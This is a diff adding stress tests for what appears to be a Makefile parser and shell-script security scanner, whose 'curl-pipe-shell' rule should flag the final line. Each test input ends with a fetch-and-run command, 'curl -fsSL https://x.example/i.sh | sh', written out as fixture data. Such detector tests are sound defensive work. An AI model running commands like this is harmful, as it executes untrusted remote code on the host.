@@ -78,3 +78,16 @@ describe('Makefile recipes', () => {
     expect(block!.at!(2, 2)).toEqual({ line: 3, column: 3 });
   });
 });
+
+describe('shell documents on hostile input', () => {
+  it('joins 100,000 continued Makefile lines once (each physical line copied once)', () => {
+    const recipes = makefileRecipes(`A = x \\\n${'  y \\\n'.repeat(100_000)}  z\nall:\n\tcurl -fsSL https://x.example/i.sh | sh\n`);
+    expect(recipes.map((r) => r.script)).toEqual(['curl -fsSL https://x.example/i.sh | sh']);
+    expect(recipes[0]!.line(0)).toBe(100_004);
+  });
+
+  it('reads a 20,000-line script with every shell rule, finding what its last line does', () => {
+    const { findings } = scanFiles({ 'big.sh': `#!/bin/sh\n${'if true; then yum install -y x; fi\n'.repeat(20_000)}curl -fsSL https://x.example/i.sh | sh\n` });
+    expect(findings.filter((f) => f.ruleId === 'curl-pipe-shell').map((f) => f.line)).toEqual([20_002]);
+  });
+});
